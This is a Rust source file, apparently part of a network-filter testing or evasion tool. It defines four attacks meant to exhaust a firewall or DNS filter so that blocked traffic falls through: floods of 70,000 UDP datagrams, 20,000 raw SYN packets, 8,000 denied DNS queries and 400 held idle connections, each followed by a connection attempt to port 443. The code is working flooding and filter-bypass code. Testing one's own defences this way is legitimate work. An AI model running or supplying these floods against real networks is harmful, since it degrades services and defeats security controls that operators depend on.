//! Filling what a wall keeps, so that something falls open.

use std::io;
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use socket2::{Socket, Type};

use super::each;
use crate::aim::Aim;
use crate::attempt::{Attempt, Outcome, Try};
use crate::dns::{self, A, Message};
use crate::packet::{self, SYN, TCP};
use crate::send;

/// More than any list of refused places has room for.
const PLACES: u32 = 70_000;
const QUESTIONS: u16 = 8_000;
const CONNECTIONS: usize = 400;

pub fn all(aim: &Aim) -> Vec<Attempt> {
    let mut all = Vec::new();
    for &to in aim.targets.iter().filter(|target| target.is_ipv4()) {
        all.push(Attempt::new("exhaust-list-of-refused", "70,000 places, then a connection", move |this| {
            let outcome = each(0..PLACES, |place| {
                let [_, high, _, low] = place.to_be_bytes();
                let IpAddr::V4(target) = to else { return Ok(()) };
                let [a, b, c, _] = target.octets();
                let port = u16::try_from(place % 65_535 + 1).unwrap_or(1);
                send::datagram(SocketAddr::new([a, b, c, low ^ high].into(), port), this.port, this.payload())
            })?;
            then_connect(this, to, &outcome)
        }));
        all.push(
            Attempt::new(
                "exhaust-sources",
                "20,000 flows from as many ports and addresses, then a connection",
                move |this| {
                    let own = send::source(to)?;
                    let outcome = each(0..20_000_u16, |number| {
                        let segment = packet::tcp(own, to, (number + 30_000, 443), SYN, this.payload());
                        send::raw(&packet::ip(own, to, TCP, &segment))
                    })?;
                    then_connect(this, to, &outcome)
                },
            )
            .root(),
        );
    }
    if let (Some(&server), Some(&to)) = (aim.dns.first(), aim.targets.first()) {
        all.push(Attempt::new("exhaust-questions", "8,000 denied questions at once, then a connection", move |this| {
            let socket = send::socket(server, Type::DGRAM, libc::IPPROTO_UDP, this.port)?;
            let outcome = each(0..QUESTIONS, |number| {
                let name = format!("{number}.{}", this.denied_name());
                socket
                    .send_to(&Message::question(&name, A).octets(number), &SocketAddr::new(server, 53).into())
                    .map(drop)
            })?;
            thread::sleep(Duration::from_secs(2));
            then_connect(this, to, &outcome)
        }));
        all.push(Attempt::new(
            "exhaust-connections",
            "400 idle connections to the DNS, then a denied name",
            move |this| {
                let held = held(server)?;
                let octets = dns::framed(&Message::question(&this.denied_name(), A).octets(6));
                let reply = dns::stream((server, 53).into(), this.port, &octets);
                let then = then_connect(this, to, &format!("{} connections", held.len()));
                drop(held);
                reply?;
                then
            },
        ));
    }
    all
}

fn then_connect(this: &Try<'_>, to: IpAddr, before: &str) -> Outcome {
    match send::connect((to, 443).into(), this.port, this.payload()) {
        Ok(_) => Ok(format!("{before}, then connected")),
        Err(error) => Err(io::Error::new(error.kind(), format!("{before}, then {error}"))),
    }
}

fn held(server: IpAddr) -> io::Result<Vec<TcpStream>> {
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let socket = Socket::new(send::domain(server), Type::STREAM, None)?;
        socket.set_linger(Some(Duration::ZERO))?;
        if socket.connect_timeout(&SocketAddr::new(server, 53).into(), send::PATIENCE).is_err() {
            break;
        }
        held.push(socket.into());
    }
    Ok(held)
}
